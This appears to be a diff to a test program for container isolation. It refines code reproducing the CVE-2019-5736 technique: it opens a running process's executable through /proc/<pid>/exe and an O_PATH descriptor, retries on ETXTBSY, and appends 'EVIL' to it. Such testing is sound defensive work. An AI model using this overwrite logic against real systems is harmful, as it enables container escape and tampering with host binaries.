@@ -4,6 +4,7 @@
 // enter it. Each act says "ready" and goes on until it is killed.
 #include <dirent.h>
 #include <fcntl.h>
+#include <poll.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -117,13 +118,19 @@ bool speak_for(const Newcomer& newcomer, const Message& message) {
     return false;
 }
 
-void write_to_executable(const char* path) {
-    constexpr int tries = 200;
+/// Again and again as long as somebody runs it, which is all that keeps one off (ETXTBSY).
+void write_to_executable(const char* path, useconds_t pause) {
+    constexpr int tries = 50;
     for (int attempt = 0; attempt < tries; ++attempt) {
         const int fd = ::open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
-        if (fd < 0) continue;
+        if (fd < 0 && errno != ETXTBSY) return;
+        if (fd < 0) {
+            ::usleep(pause);
+            continue;
+        }
         if (::write(fd, "EVIL", 4) == 4) say("written");
         ::close(fd);
+        return;
     }
 }
 
@@ -233,8 +240,11 @@ int overwrite(int, char**) {
         // Kept open by its path: what holds after it has gone, CVE-2019-5736 wrote then.
         const std::string path = "/proc/" + std::to_string(newcomer.pid) + "/exe";
         const int held = ::open(path.c_str(), O_PATH | O_CLOEXEC);
-        write_to_executable(path.c_str());
-        if (held >= 0) write_to_executable(("/proc/self/fd/" + std::to_string(held)).c_str());
+        if (held >= 0) say("held");
+        constexpr int milliseconds = 300;
+        pollfd until_it_ends{newcomer.pidfd, POLLIN, 0};
+        if (held >= 0) (void)::poll(&until_it_ends, 1, milliseconds);
+        if (held >= 0) write_to_executable(("/proc/self/fd/" + std::to_string(held)).c_str(), 1000);
         ::close(held);
         ::close(newcomer.pidfd);
     }
